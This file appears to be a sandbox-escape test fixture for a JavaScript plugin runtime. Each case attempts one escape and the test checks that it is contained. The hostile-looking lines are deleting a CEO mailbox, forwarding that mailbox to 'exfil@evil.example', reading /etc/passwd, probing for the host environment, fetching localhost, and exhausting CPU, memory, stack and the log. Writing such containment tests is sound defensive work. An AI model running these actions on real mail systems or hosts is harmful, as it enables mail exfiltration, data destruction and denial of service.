// Each attack tries one way out of the sandbox from JavaScript. Attacks
// whose containment the plugin can observe (a denied call, a missing API)
// report what they saw, so the test can assert the exact answer. The
// engine's own ways to files and the network end in a trap at an import
// the build stubbed out; attacks on the host's limits never finish on
// their own.

import { input, invoke } from '@exorun/sdk';

export async function run() {
  const attack = input('attack');
  switch (attack) {
    case 'undeclared-cmdlet':
      invoke('Remove-Mailbox', { Identity: 'ceo@contoso.com' });
      break;
    case 'value-outside-set':
      invoke('Set-Mailbox', {
        Identity: 'ceo@contoso.com',
        ForwardingSmtpAddress: 'exfil@evil.example',
      });
      break;
    case 'call-budget':
      for (let i = 0; ; i++) invoke('Get-Mailbox', { Identity: `user${i}` });
    case 'read-file':
      // No fs module, no require: the engine's only way to a file is its
      // module loader, whose WASI filesystem import the build replaced
      // with a trap.
      if (typeof globalThis.require !== 'undefined') return 'require exists';
      await import(/* computed, so the bundler leaves it alone */ ['', 'etc', 'passwd'].join('/'));
      return 'read /etc/passwd';
    case 'environment':
      return JSON.stringify({
        process: typeof globalThis.process,
        Deno: typeof globalThis.Deno,
        env: typeof globalThis.env,
      });
    case 'network': {
      const port = input('port');
      // fetch exists in the engine, but its wasi:http import is a stub.
      const response = await fetch(`http://127.0.0.1:${port}/`);
      return `fetched: ${response.status}`;
    }
    case 'loop':
      for (let n = 0; ; n = (n + 1) | 0);
    case 'memory': {
      const hoard = [];
      for (;;) hoard.push(new Uint8Array(1 << 20).fill(1));
    }
    case 'stack':
      return String(recurse(0));
    case 'console-flood': {
      // The SDK sends console output to the run log, which is capped.
      const line = 'x'.repeat(1024);
      for (;;) console.log(line);
    }
    default:
      throw new Error(`unknown attack '${attack}'`);
  }
  return 'the attack was not stopped';
}

/** Unbounded recursion, combined after the call so it cannot become a loop. */
function recurse(depth) {
  return (1 + recurse(depth + 1)) ^ depth;
}
